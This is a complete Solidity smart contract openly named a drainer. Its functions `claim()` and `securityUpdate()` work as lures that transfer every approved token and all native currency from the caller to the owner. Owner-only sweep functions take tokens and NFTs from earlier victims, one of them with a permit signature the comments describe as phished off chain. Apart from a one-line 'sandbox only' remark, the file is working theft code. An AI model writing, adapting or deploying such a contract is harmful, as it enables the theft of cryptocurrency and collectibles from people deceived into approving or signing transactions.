// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {ICollectible, IPermitToken, Tokens} from "./base/Tokens.sol";

/// @title A drainer: lures with `claim()` or `securityUpdate()` and takes what the caller has approved.
/// @dev Every listed token the caller approved goes to the owner, and so does all native value received. `sweep` and
/// `sweepCollectibles` take from earlier victims without their help; `sweepWithPermit` uses a signature phished off
/// chain. Made for the sandbox chain only: it needs a victim who approved it.
contract Drainer {
    address public immutable owner;
    address[] private _tokens;

    modifier onlyOwner() {
        require(msg.sender == owner);
        _;
    }

    constructor(address owner_) {
        owner = owner_;
    }

    receive() external payable {
        _forward();
    }

    function setTokens(address[] calldata tokens) external onlyOwner {
        _tokens = tokens;
    }

    function claim() external payable {
        _drain(msg.sender);
    }

    function securityUpdate() external payable {
        _drain(msg.sender);
    }

    function sweep(address token, address[] calldata victims) external onlyOwner {
        for (uint256 i; i < victims.length; i++) _take(token, victims[i]);
    }

    function sweepCollectibles(address collection, address victim, uint256[] calldata ids) external onlyOwner {
        for (uint256 i; i < ids.length; i++) ICollectible(collection).transferFrom(victim, owner, ids[i]);
    }

    function sweepWithPermit(address token, address victim, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s)
        external
        onlyOwner
    {
        IPermitToken(token).permit(victim, address(this), value, deadline, v, r, s);
        _take(token, victim);
    }

    function _drain(address victim) private {
        for (uint256 i; i < _tokens.length; i++) _take(_tokens[i], victim);
        _forward();
    }

    function _take(address token, address victim) private {
        uint256 amount = Tokens.takeable(token, victim, address(this));
        if (amount > 0) Tokens.pull(token, victim, owner, amount);
    }

    function _forward() private {
        (bool sent,) = owner.call{value: address(this).balance}("");
        require(sent);
    }
}
